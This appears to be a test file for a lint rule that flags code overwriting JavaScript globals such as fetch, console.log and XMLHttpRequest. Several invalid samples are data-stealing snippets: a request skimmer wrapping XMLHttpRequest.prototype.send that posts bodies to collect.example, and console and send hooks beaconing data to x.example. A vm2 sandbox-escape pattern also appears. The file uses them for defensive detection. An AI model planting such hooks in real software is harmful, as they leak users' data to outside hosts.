import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import rule from '../../rules/no-global-tampering.js';
import { ruleTester } from '../rule-tester.js';
import { analyze } from '../../analyzer/engine.js';

ruleTester(rule, {
  valid: [
    // New globals of one's own, event handlers and plain data are not tampering.
    'window.myApp = {}; globalThis.__APP_STATE__ = state; root.MyLib = factory();',
    'window.onload = init; ws.onmessage = handle; process.on("exit", cleanup);',
    "process.exitCode = 1; process.env.NODE_ENV = 'production'; process.title = 'worker';",
    "document.title = 'Inbox'; document.cookie = 'theme=dark';",
    'jQuery.fn.plugin = function () {}; $.fn.x = 1;',
    // Built-in constructors and prototypes belong to no-intrinsic-mutation.
    'Promise.prototype.then = f; Array.prototype.x = 1; Object.assign = merge;',
    // Locals named like globals; user objects with the same member names.
    'function f(console) { console.log = noop; }',
    'const JSON = { parse: (s) => s }; JSON.parse = other;',
    'logger.log = () => {}; api.fetch = wrapped; cache.setTimeout = 5;',
    // Calls and reads are not writes.
    'const log = console.log.bind(console); fetch(url); JSON.parse(text);',
    "const s = 'JSON.parse = evil'; // console.log = () => {}",
    'Object.defineProperty(exports, "__esModule", { value: true });',
    'Object.assign(window, { myApp: {} });',
    // Data hanging off host objects (a parameter defaulting to process.stdout.fd).
    'const destination = (dest = process.stdout.fd) => { dest.dest = normalize(dest.dest); };',
  ],
  invalid: [
    { code: 'JSON.parse = (s) => s;', errors: [{ messageId: 'replace', column: 1, message: '`JSON.parse`' }] },
    { code: 'globalThis.fetch = spy;', errors: [{ messageId: 'replace', column: 1, message: '`fetch`' }] },
    { code: 'console.log = () => {};', errors: [{ messageId: 'replace', column: 1 }] },
    { code: 'process.emitWarning = () => {};', errors: [{ messageId: 'replace', column: 1 }] },
    { code: 'window.XMLHttpRequest.prototype.send = wrapped;', errors: [{ messageId: 'replace', column: 1, message: 'XMLHttpRequest.prototype.send' }] },
    { code: 'fetch = wrapper;', errors: [{ messageId: 'replace', column: 1 }] },
    { code: 'delete window.fetch;', errors: [{ messageId: 'replace', column: 1, message: 'deletes' }] },
    { code: "self['post' + 'Message'] = noop;", errors: [{ messageId: 'replace', column: 1, message: '`postMessage`' }] },
    { code: 'const w = window;\nw.setTimeout = f;', errors: [{ messageId: 'replace', line: 2, column: 1 }] },
    { code: 'Math.random = () => 4;', errors: [{ messageId: 'replace', column: 1 }] },
    {
      name: 'vm2: Reflect.construct swapped before a bridge call',
      code: 'Reflect.construct = exploit;\nBuffer.from([0]);',
      errors: [{ messageId: 'replace', column: 1 }],
    },
    { code: "const fs = require('fs');\nfs.readFileSync = wrapped;", errors: [{ messageId: 'replace', line: 2, column: 1, message: "require('fs').readFileSync" }] },
    { code: "Object.defineProperty(globalThis, 'myThing', { get() { return 1; } });", errors: [{ messageId: 'globalObject', column: 1 }] },
    { code: 'Object.assign(window, { fetch: spy });', errors: [{ messageId: 'globalObject', column: 1 }] },
    { code: "Object.defineProperty(console, 'log', { value: noop });", errors: [{ messageId: 'replace', column: 1, message: 'redefines' }] },
    { code: "Reflect.set(JSON, 'stringify', spy);", errors: [{ messageId: 'replace', column: 1 }] },
    {
      name: 'a request skimmer wrapping XMLHttpRequest',
      code: [
        'const send = XMLHttpRequest.prototype.send;',
        'XMLHttpRequest.prototype.send = function (body) {',
        "  fetch('https://collect.example/c', { method: 'POST', body });",
        '  return send.call(this, body);',
        '};',
      ].join('\n'),
      errors: [{ messageId: 'replace', line: 2, column: 1, message: 'sends data to fetch' }],
    },
    {
      name: 'console hook that beacons what is logged',
      code: "console.log = function (...a) { navigator.sendBeacon('https://x.example', JSON.stringify(a)); };",
      profile: 'audit',
      errors: [{ messageId: 'replace', column: 1, message: 'navigator.sendBeacon' }],
    },
    {
      name: 'a fetch wrapper forwarding to the original fetch is a plain wrapper',
      code: 'const orig = window.fetch;\nwindow.fetch = async (...args) => orig(...args);',
      profile: 'audit',
      errors: [{ messageId: 'replace', line: 2, column: 1, severity: 'warn' }],
    },
    { code: 'if (!window.requestAnimationFrame) window.requestAnimationFrame = (cb) => setTimeout(cb, 16);', errors: [{ messageId: 'replace', column: 36, message: 'when missing' }] },
    { code: '(window as any).fetch = spy;', filename: 'a.ts', errors: [{ messageId: 'replace', column: 1 }] },
  ],
});

describe('no-global-tampering severities by profile', () => {
  const severities = (code: string, profile: 'audit' | 'recommended') =>
    analyze(code, { filename: 'x.js', policy: { profile } }).findings.filter((f) => f.ruleId === 'no-global-tampering').map((f) => f.severity);
  it('warns on a plain wrapper', () => {
    assert.deepEqual(severities('const orig = window.fetch;\nwindow.fetch = (...a) => orig(...a);', 'audit'), ['warn']);
  });
  it('raises a wrapper that forwards data to a network sink to an error', () => {
    const code = "XMLHttpRequest.prototype.send = function (b) { navigator.sendBeacon('https://x.example', b); };";
    assert.deepEqual(severities(code, 'audit'), ['error']);
    assert.deepEqual(severities(code, 'recommended'), ['error']);
  });
});
